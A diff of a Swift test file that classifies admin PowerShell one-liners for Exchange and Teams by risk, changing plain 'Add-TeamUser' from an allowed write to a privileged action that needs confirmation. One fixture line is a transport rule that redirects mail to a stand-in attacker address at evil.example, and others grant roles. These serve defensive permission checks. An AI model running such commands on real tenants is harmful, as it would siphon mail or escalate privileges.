@@ -167,7 +167,7 @@ struct AdminOneLinerTests {
         ("Set-CASMailbox ann -PopEnabled $true", .privilege, .ask),
         ("New-ManagementRoleAssignment -Role x -User ann", .privilege, .ask),
         ("Set-TransportRule x -RedirectMessageTo eve@evil.example", .privilege, .ask),
-        ("Add-TeamUser -GroupId g -User ann", .write, .allow),
+        ("Add-TeamUser -GroupId g -User ann", .privilege, .ask),
         ("Add-TeamUser -GroupId g -User ann -Role Owner", .privilege, .ask),
         ("Add-TeamUser -GroupId g -User ann -Role own", .privilege, .ask),
         ("Add-TeamUser -GroupId g -User ann -Role $r", .privilege, .ask),
